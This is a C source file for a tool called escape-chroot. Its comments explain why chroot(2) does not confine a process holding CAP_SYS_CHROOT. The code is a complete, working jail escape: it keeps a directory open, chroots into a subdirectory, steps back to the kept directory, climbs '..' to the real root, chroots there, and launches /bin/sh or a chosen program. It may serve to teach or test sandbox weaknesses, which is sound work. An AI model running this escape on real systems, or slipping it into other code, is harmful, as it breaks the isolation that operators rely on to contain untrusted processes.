// escape-chroot: walks out of a chroot, as any process with CAP_SYS_CHROOT can.
//
//   escape-chroot [PROGRAM [ARGUMENT…]]
//
// chroot(2) changes what "/" means and nothing else. A directory that is already open stays open, and ".." is only
// stopped at the root. So: keep a directory open, move the root below it, step back to it. Now the root is beneath
// us, ".." never meets it, and we climb to the real one.
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int failed(const char* call) {
  fprintf(stderr, "escape-chroot: %s failed: %s\n", call, strerror(errno));
  return 1;
}

int main(int argc, char** argv) {
  // #region escape
  int kept = open(".", O_RDONLY | O_DIRECTORY);
  if (kept < 0) return failed("open(\".\")");
  if (mkdir("deeper", 0755) < 0 && errno != EEXIST) return failed("mkdir(\"deeper\")");
  if (chroot("deeper") < 0) return failed("chroot(\"deeper\")");
  if (fchdir(kept) < 0) return failed("fchdir(kept)");
  for (int i = 0; i < 64; i++)
    if (chdir("..") < 0) return failed("chdir(\"..\")");
  if (chroot(".") < 0) return failed("chroot(\".\")");
  // #endregion escape
  char shell[] = "/bin/sh";
  char* fallback[] = {shell, nullptr};
  char** program = argc > 1 ? argv + 1 : fallback;
  execvp(program[0], program);
  return failed(program[0]);
}
